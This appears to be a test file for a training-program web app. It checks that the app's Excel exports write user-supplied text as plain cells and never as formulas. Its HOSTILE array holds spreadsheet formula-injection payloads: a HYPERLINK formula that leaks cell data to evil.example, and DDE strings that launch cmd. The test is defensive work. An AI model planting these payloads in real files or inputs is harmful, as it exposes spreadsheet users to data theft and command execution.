import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import JSZip from 'jszip';
import { FixedClock } from '../../libs/platform/src';
import { createClass, createPerson, createProgram, createTrainer } from '../support/campaign';
import { download } from '../support/files';
import { communesOf } from '../support/fixtures';
import { startTestApp, TestApp } from '../support/test-app';
import { toolAvailable } from '../support/tools';

/**
 * Text that a spreadsheet would run as a formula if it were written as one (CSV injection's xlsx cousin):
 * every export writes it as a plain text cell, so the file opens showing exactly what was typed.
 */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  '+84 912 345 678',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
];

const decode = (xml: string) =>
  xml
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');

/**
 * Every sheet of a workbook: the formulas it contains, and the text of its cells however they are stored
 * — shared strings (`<si><t>`), inline strings (`<is><t>`), or a string value with no formula
 * (`t="str"`, which exceljs's streaming writer uses).
 */
async function cellsOf(xlsx: Buffer): Promise<{ formulas: string[]; texts: string[] }> {
  const zip = await JSZip.loadAsync(xlsx);
  const formulas: string[] = [];
  const texts: string[] = [];
  for (const [name, file] of Object.entries(zip.files)) {
    if (!/^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(name)) continue;
    const xml = await file.async('string');
    for (const m of xml.matchAll(/<f[ >/][\s\S]*?(<\/f>|\/>)/g)) formulas.push(`${name}: ${m[0]}`);
    for (const m of xml.matchAll(/<t(?: [^>]*)?>([\s\S]*?)<\/t>/g)) texts.push(decode(m[1]));
    for (const m of xml.matchAll(/<c [^>]*t="str"[^>]*><v>([\s\S]*?)<\/v><\/c>/g)) texts.push(decode(m[1]));
  }
  return { formulas, texts };
}

describe('exports never write text as formulas', () => {
  const clock = new FixedClock(new Date('2026-11-25T10:00:00+07:00'));
  let t: TestApp;
  let program: string;
  let classId: string;

  beforeAll(async () => {
    t = await startTestApp({ clock });
    const [commune] = await communesOf(t, '19');
    program = (await createProgram(t.http, { completionRule: { minSessions: 1 } })).id;
    const lead = await createPerson(t.http, commune, { fullName: HOSTILE[0] });
    const trainer = await createTrainer(t.http, program, commune, { personId: lead.id });
    const c = await createClass(t.http, program, trainer.id, commune, {
      title: HOSTILE[1],
      venueAddress: HOSTILE[2],
    });
    classId = c.id;
    const marks = [];
    for (const fullName of HOSTILE) {
      const person = await createPerson(t.http, commune, { fullName });
      const enrolled = await t.http.post(`/api/v1/classes/${c.id}/enrolments`, { personId: person.id });
      expect(enrolled.status).toBe(201);
      marks.push({ personId: person.id, status: 'present' });
    }
    const marked = await t.http.put(`/api/v1/classes/${c.id}/sessions/${c.sessions[0].id}/attendance`, {
      marks,
    });
    expect(marked.status).toBe(200);
  });
  afterAll(() => t.close());

  async function expectPlainText(name: string, xlsx: Buffer, expected: string[]) {
    const { formulas, texts } = await cellsOf(xlsx);
    expect([name, formulas]).toEqual([name, []]);
    for (const text of expected) expect([name, texts.includes(text)]).toEqual([name, true]);
  }

  it('in the KPI workbook, on every sheet', async () => {
    const res = await fetch(`${t.baseUrl}/api/v1/exports`, {
      method: 'POST',
      headers: { authorization: `Bearer ${t.http.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        programId: program,
        unit: '19',
        period: '2026',
        sheets: ['summary', 'trainers', 'classes', 'learners'],
      }),
    });
    expect(res.status).toBe(200);
    const xlsx = Buffer.from(await res.arrayBuffer());
    await expectPlainText('kpi', xlsx, HOSTILE);

    // And what a spreadsheet program makes of it: LibreOffice opens the learners' sheet and writes each
    // cell as it shows it; a formula would show its result (or an error), not its text.
    if (!toolAvailable('soffice', 'opening the exported workbook', 'libreoffice-calc')) return;
    const dir = mkdtempSync(join(tmpdir(), 'lantoa-formulas-'));
    writeFileSync(join(dir, 'kpi.xlsx'), xlsx);
    // Filter options: comma-separated, quoted where needed, UTF-8; the last field (-1) writes every sheet.
    execFileSync(
      'soffice',
      [
        '--headless',
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
        '--outdir',
        dir,
        join(dir, 'kpi.xlsx'),
      ],
      { env: { ...process.env, HOME: dir }, timeout: 120_000 },
    );
    const learners = readdirSync(dir).find((f) => /Người học|Nguoi hoc/i.test(f.normalize('NFC')));
    expect(learners).toBeDefined();
    const csv = readFileSync(join(dir, learners!), 'utf8');
    const shown = (text: string) =>
      csv.includes(`,${text},`) || csv.includes(`,"${text.replace(/"/g, '""')}",`);
    expect(HOSTILE.filter((text) => !shown(text))).toEqual([]);
  }, 180_000);

  it('in the attendance sheet and the roster template', async () => {
    const sheet = await download(t, `/api/v1/classes/${classId}/attendance-sheet.xlsx`);
    expect(sheet.status).toBe(200);
    await expectPlainText('attendance sheet', sheet.body, HOSTILE);
    const template = await download(t, `/api/v1/classes/${classId}/attendance/template`);
    expect(template.status).toBe(200);
    await expectPlainText('roster template', template.body, HOSTILE);
  });
});
